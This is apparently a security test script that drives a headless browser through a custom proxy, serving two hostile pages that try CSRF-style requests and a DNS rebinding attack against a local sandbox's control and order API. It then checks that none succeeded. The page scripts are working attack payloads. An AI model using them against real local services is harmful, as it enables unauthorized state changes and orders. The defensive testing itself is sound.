// Opens web pages of a stranger in a real browser, which try to steer a sandbox on this machine and to order there. It
// is judged by what the sandbox says afterwards. node tools/browser.mjs BROWSER PROFILE URL CONTROL KEY
//
// This program is the browser's proxy, so it decides what a name leads to. One page is at another site. The other one
// does DNS rebinding: its name leads to the stranger first and to the sandbox afterwards, so that the browser takes the
// sandbox for the page's own site, and lets the page read the answers.
import { spawn } from "node:child_process";
import { createServer, request } from "node:http";

const [browser, profile, url, control, key] = process.argv.slice(2);
const sandbox = new URL(url), token = control.split("/").pop();
const STRANGER = "stranger.example", REBOUND = `rebound.example:${sandbox.port}`;
const SECONDS = 60;

// ---- the pages: these functions run in the browser ------------------------------------------------

const COMMON = `
const log = {};
async function attempt(name, act) {
  try { log[name] = String(await act()); } catch (error) { log[name] = "failed: " + error; }
}
const order = (key) => "key=" + key + "&action=add&service=1&link=https://example.com/browser&quantity=100";
const done = (page) => fetch("http://${STRANGER}/done/" + page, { method: "POST", mode: "no-cors", body: JSON.stringify(log) });
`;

const CROSS_SITE = `<body><script>${COMMON}
const hosts = ["http://127.0.0.1:${sandbox.port}", "http://localhost:${sandbox.port}"];
const post = (url, body, type) => fetch(url, { method: "POST", mode: "no-cors", body,
  headers: { "Content-Type": type || "text/plain" } }).then((answer) => answer.type);
const form = (action, fields, enctype) => new Promise((ended) => {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = "frame" + document.querySelectorAll("iframe").length;
  Object.assign(form, { action, method: "POST", target: frame.name, enctype });
  for (const [name, value] of new URLSearchParams(fields)) {
    form.append(Object.assign(document.createElement("input"), { name, value }));
  }
  frame.onload = () => ended("sent");
  document.body.append(frame, form);
  form.submit();
  setTimeout(ended, 3000, "no answer");
});
const load = (element, src) => new Promise((ended) => {
  const made = Object.assign(document.createElement(element), { onload: () => ended("loaded"), onerror: () => ended("refused") });
  document.body.append(made);
  made.src = src;
});
(async () => {
  await attempt("with the token", () => post("${control}/balance?balance=77", ""));
  for (const host of hosts) {
    for (const path of ["/control", "/control/", "/control/balance", "/control/${"0".repeat(token.length)}/balance"]) {
      await attempt("text/plain " + host + path, () => post(host + path + "?balance=1", "balance=1"));
      await attempt("form " + host + path, () => form(host + path + "?balance=1", "balance=1", "text/plain"));
      await attempt("beacon " + host + path, () => navigator.sendBeacon(host + path + "?balance=1", "x"));
      await attempt("image " + host + path, () => load("img", host + path + "?balance=1"));
    }
    await attempt("script " + host, () => load("script", host + "/api/v2?action=services&key=" + "1".repeat(32)));
    for (const key of ["", "1".repeat(32)]) {
      await attempt("order " + host, () => post(host + "/api/v2", order(key)));
      await attempt("order, encoded " + host, () => post(host + "/api/v2", order(key), "application/x-www-form-urlencoded"));
      await attempt("order, form " + host, () => form(host + "/api/v2", order(key), "application/x-www-form-urlencoded"));
      await attempt("order, multipart " + host, () => form(host + "/api/v2", order(key), "multipart/form-data"));
      await attempt("order, image " + host, () => load("img", host + "/api/v2?" + order(key)));
    }
    await attempt("read " + host, () => fetch(host + "/api/v2", { method: "POST", body: "action=services" })
      .then((answer) => answer.text()));
    await attempt("preflight " + host, () => fetch(host + "/control/${token}/balance?balance=1", { method: "POST",
      headers: { "Content-Type": "application/json" }, body: "{}" }).then((answer) => answer.text()));
  }
  await done("cross-site");
  location = "http://${REBOUND}/";
})();
</script>`;

const REBINDING = `<body><script>${COMMON}
const post = (path, body) => fetch(path, { method: "POST", body }).then(async (answer) => answer.status + " " + await answer.text());
(async () => {
  await attempt("rebound", () => post("/api/v2", "key=0&action=balance"));
  for (const path of ["/control", "/control/balance", "/control/${token}", "/control/${token}/balance", "/control/${token}/stats"]) {
    await attempt("control " + path, () => post(path + "?balance=1", ""));
  }
  await attempt("control by GET", () => fetch("/control/${token}/balance?balance=1").then((answer) => answer.status));
  for (const key of ["", "1".repeat(32)]) await attempt("order", () => post("/api/v2", order(key)));
  await done("rebinding");
})();
</script>`;

// ---- the network: the browser's proxy -----------------------------------------------------------------

const logs = {}, rebound = new Set();
let finished;
const finish = new Promise((resolve) => (finished = resolve));

function forward(asked, answer) {
  const path = asked.url.replace(/^http:\/\/[^/]*/, "");
  const onward = request({ host: "127.0.0.1", port: sandbox.port, path, method: asked.method, headers: asked.headers },
    (came) => { answer.writeHead(came.statusCode, came.headers); came.pipe(answer); });
  onward.on("error", () => answer.destroy());
  asked.pipe(onward);
}

function page(answer, text) {
  answer.writeHead(200, { "Content-Type": "text/html" });
  answer.end(text);
}

const proxy = createServer((asked, answer) => {
  const { host } = asked.headers, { pathname } = new URL(asked.url, "http://" + host);
  if (host === REBOUND && rebound.has(host)) return forward(asked, answer);
  if (host === REBOUND) return rebound.add(host), page(answer, REBINDING);
  if (host === STRANGER && pathname === "/") return page(answer, CROSS_SITE);
  if (host !== STRANGER || !pathname.startsWith("/done/")) return answer.writeHead(404).end();
  let text = "";
  asked.on("data", (piece) => (text += piece));
  asked.on("end", () => {
    logs[pathname.slice(6)] = JSON.parse(text);
    answer.end();
    if (logs["cross-site"] && logs.rebinding) finished();
  });
});

// ---- the verdict -------------------------------------------------------------------------------------

const ask = async (path) => (await fetch(control + path, { method: "POST" })).json();
const balance = async () => (await (await fetch(url, { method: "POST", body: new URLSearchParams({ key, action: "balance" }) })).json()).balance;

async function verdict() {
  const problems = [];
  const check = (right, text) => right || problems.push(text);
  for (const name of ["cross-site", "rebinding"]) check(logs[name], `the page "${name}" did not finish`);
  const cross = logs["cross-site"] || {}, own = logs.rebinding || {};
  // Without these two the other attempts prove nothing.
  check(cross["with the token"] === "opaque", "the browser does not reach the sandbox: " + cross["with the token"]);
  check(/^200 .*error/.test(own.rebound), "the name does not lead to the sandbox: " + own.rebound);
  check(+(await balance()) === 77, "a page without the token changed the balance: " + (await balance()));
  const orders = await ask("/orders");
  check(Object.keys(orders).length === 0 || orders.length === 0, "a page placed an order: " + JSON.stringify(orders));
  for (const [name, said] of Object.entries(cross)) {
    if (/^(read|preflight)/.test(name)) check(/^failed/.test(said), `${name}: the page read an answer: ${said}`);
    if (/^script/.test(name)) check(said === "refused", `${name}: an answer ran as a script`);
  }
  for (const [name, said] of Object.entries(own)) {
    if (/^control/.test(name)) check(/^403/.test(said), `${name} of a rebound page: ${said}`);
    if (/^order/.test(name)) check(/error/.test(said), `${name} of a rebound page: ${said}`);
  }
  return problems;
}

proxy.listen(0, "127.0.0.1", async () => {
  const child = spawn(browser, ["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
    "--disable-background-networking", `--user-data-dir=${profile}`, `--proxy-server=http://127.0.0.1:${proxy.address().port}`,
    "--remote-debugging-port=0", `http://${STRANGER}/`], { stdio: "ignore", detached: true });
  child.on("error", (error) => { console.log("browser: " + error.message); process.exit(1); });
  await Promise.race([finish, new Promise((resolve) => setTimeout(resolve, SECONDS * 1000))]);
  const problems = await verdict();
  try { process.kill(-child.pid); } catch { problems.push("the browser ended by itself"); }
  const attempts = Object.values(logs).reduce((sum, log) => sum + Object.keys(log).length, 0);
  for (const problem of problems) console.log("browser: " + problem);
  if (!problems.length) console.log(`browser: ${attempts} attempts of two pages, none reached the sandbox`);
  if (process.env.VERBOSE) console.log(logs);
  process.exit(problems.length ? 1 : 0);
});
